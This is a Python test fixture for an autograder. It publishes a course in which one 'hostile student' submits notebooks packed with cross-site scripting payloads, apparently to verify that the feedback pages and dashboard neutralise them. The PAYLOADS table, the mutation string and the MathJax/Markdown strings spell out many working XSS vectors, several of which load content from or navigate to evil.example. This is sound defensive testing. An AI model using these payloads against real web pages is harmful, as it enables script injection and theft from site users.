"""A class with a hostile student in it, graded and published, and what its payloads would do in a browser."""

from pathlib import Path

from nbgrader.api import Gradebook

from autograder.course.course import Course
from autograder.publishing.dashboard import write_dashboard
from autograder.publishing.overview import write_pages
from autograder.records.database import gradebook_url
from autograder.submission.submission import Submission
from autograder.tests.classroom import WRONG_SUMS, hand_in, open_course, small, solved
from autograder.tests.in_process import grade_class

# What each payload causes in a page that does not stop it, as the browser reports it.
PAYLOADS = {
    "<script>alert(1)</script>": "dialog says 1",
    "<script>console.log('here')</script>": "console here",
    "<script>throw 1</script>": "exception 1",
    "<script src=http://evil.example/script.js></script>": "request http://evil.example/script.js",
    "<script>fetch('http://evil.example/fetched')</script>": "request http://evil.example/fetched",
    "<img src=x onerror=alert(2)>": "dialog says 2",
    "<img src=http://evil.example/beacon.png>": "request http://evil.example/beacon.png",
    "<img srcset='http://evil.example/set.png 1x'>": "request http://evil.example/set.png",
    "<svg onload=alert(3)></svg>": "dialog says 3",
    "<svg><image href=http://evil.example/image.svg /></svg>": "request http://evil.example/image.svg",
    "<svg><script>alert(4)</script></svg>": "dialog says 4",
    "<iframe src=http://evil.example/frame></iframe>": "navigation http://evil.example/frame",
    "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>": "dialog says 5",
    "<object data=http://evil.example/object></object>": "request http://evil.example/object",
    "<embed src=http://evil.example/embedded>": "request http://evil.example/embedded",
    "<video src=http://evil.example/video></video>": "request http://evil.example/video",
    "<link rel=stylesheet href=http://evil.example/style.css>": "request http://evil.example/style.css",
    "<style>@import 'http://evil.example/imported.css';</style>": "request http://evil.example/imported.css",
    "<style>body{background:url(http://evil.example/background)}</style>": "request http://evil.example/background",
    "<p style='background:url(http://evil.example/inline)'>x</p>": "request http://evil.example/inline",
    "<meta http-equiv=refresh content='0;url=http://evil.example/next'>": "navigation http://evil.example/next",
    "<form action=http://evil.example/form><button>x</button></form>": "request http://evil.example/form?",
    "<a href='javascript:alert(6)'>x</a>": "dialog says 6",
    "<b onclick=alert(7)>x</b>": "dialog says 7",
    "<b onmouseover=\"window.open('http://evil.example/window')\">x</b>": "window http://evil.example/window",
    "<details open ontoggle=alert(8)></details>": "dialog says 8",
    "<input onfocus='this.onfocus = null; alert(9)'>": "dialog says 9",
    "<base href=http://evil.example/><img src=based>": "request http://evil.example/based",
}
OWNED = "<script>document.title = 'owned'</script>"
CALLING = "<link rel=preconnect href=http://evil.example/>"
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(10)&gt;'>"
)
MATHEMATICS = r"""$\href{javascript:alert(20)}{x}$ $\unicode{<img src=x onerror=alert(21)>}$
$$\require{html}\style{background:url(http://evil.example/style)}{x}\class{"onclick=alert(22)}{x}$$
[x](javascript:alert(23)) [x]( java\tscript:alert(24)) <javascript:alert(25)> ![x](http://evil.example/image)
[x]: javascript:alert(26)
```html
<script>alert(27)</script>
```
"""
SHOWING = """from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
for text in {payloads!r}:
    for kind in (HTML, Markdown, Latex, Javascript):
        display(kind(text))
    display({{"image/svg+xml": f"<svg onload=alert(30)>{{text}}</svg>", "text/html": text}}, raw=True)
    print(text)
def row_sums(x):
    raise ValueError("</pre>" + "".join({payloads!r}))
Odd = type("</title><script>alert(31)</script>", (Exception,), {{}})
# {payloads!r}
raise Odd("</pre><script>alert(32)</script>")
"""
WIDE = """import matplotlib.pyplot as plt
plt.plot([1, 2])
plt.show()
from IPython.display import HTML, display
display(HTML("<table><tr>" + "<td>1234567890</td>" * 60 + "</tr></table>"))
print("x" * 500)
print(" ".join(["word"] * 200))
"""
LONG_WORDS = (
    "A long formula $"
    + "x_{1}+" * 80
    + "$, `"
    + "code" * 100
    + "`\n\n"
    + "| a " * 40
    + "|\n"
    + "|---" * 40
    + "|\n"
)
STUDENTS = ("ann", "ben", "eve", "zoe")


def publish_class(root: Path) -> Course:
    """Grade and publish honest students, a hostile one, and a file that is not a notebook."""
    course = open_course(root)
    exercise = small(course)
    payloads = [*PAYLOADS, OWNED, MUTATING, CALLING]
    hostile = solved(exercise, row_sums=SHOWING.format(payloads=payloads), why=MATHEMATICS)
    honest = solved(exercise)
    texts = [("markdown", text) for text in (*payloads, MATHEMATICS)] + [("raw", "\n".join(payloads))]
    hostile["cells"] += [_cell(kind, text) for kind, text in texts]
    honest["cells"] += [_cell("code", WIDE), _cell("markdown", LONG_WORDS)]
    hand_in(course, "ann", honest)
    hand_in(course, "ben", solved(exercise, row_sums=WRONG_SUMS))
    hand_in(course, "eve", hostile)
    hand_in(course, "zoe", "".join(payloads))
    grade_class(course)
    with Gradebook(gradebook_url(course.root), course.settings.course) as gradebook:
        place = ("01_small", "01_small", "ann")
        gradebook.find_grade("why", *place).manual_score = 1.5
        gradebook.find_comment("why", *place).manual_comment = "<script>alert(13)</script> Well put."
        gradebook.db.commit()
    write_pages(course, [exercise])
    write_dashboard(course, [exercise])
    return course


def _cell(kind: str, text: str) -> dict[str, object]:
    code: dict[str, object] = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "metadata": {}, "source": text, **code}


def page(course: Course, name: str) -> Path:
    if name == "dashboard":
        return course.build / "dashboard.html"
    return Submission(course.root, name, "01_small").feedback
